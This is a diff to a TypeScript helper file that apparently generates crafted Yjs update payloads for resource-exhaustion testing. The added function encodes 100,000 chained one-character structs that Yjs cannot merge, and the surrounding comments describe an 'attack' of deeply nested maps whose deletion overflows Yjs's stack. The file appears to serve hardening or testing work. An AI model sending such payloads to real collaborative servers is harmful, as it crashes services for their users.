@@ -42,6 +42,33 @@ export function manyRoots(count = 70_000, client = 4_242_424): Uint8Array {
 }
 
 /**
+ * `count` characters typed into the text whose item is `text`, each a struct of its own placed
+ * by the one before: 100,000 of them fit in 783 KB. Yjs would merge them; a crafted client does not.
+ */
+export function chainedCharacters(count: number, text: Y.ID, client = 7_777_777): Uint8Array {
+  const e = encoding.createEncoder();
+  encoding.writeVarUint(e, 1);
+  encoding.writeVarUint(e, count);
+  encoding.writeVarUint(e, client);
+  encoding.writeVarUint(e, 0);
+  for (let i = 0; i < count; i++) {
+    if (i === 0) {
+      encoding.writeUint8(e, 4); // characters, placed by their parent:
+      encoding.writeVarUint(e, 0); // a struct, by id
+      encoding.writeVarUint(e, text.client);
+      encoding.writeVarUint(e, text.clock);
+    } else {
+      encoding.writeUint8(e, 4 | 0x80); // characters, placed after…
+      encoding.writeVarUint(e, client); // …the struct before
+      encoding.writeVarUint(e, i - 1);
+    }
+    encoding.writeVarString(e, 'y');
+  }
+  encoding.writeVarUint(e, 0);
+  return encoding.toUint8Array(e);
+}
+
+/**
  * Attack 3: maps nested `depth` deep under one entry (~243 KB for 20,000), and the ~10-byte
  * update that deletes their root: applied, Yjs overflows the stack deleting and collecting them
  * (so the delete is written by hand: the attacker's own Yjs would overflow making it).
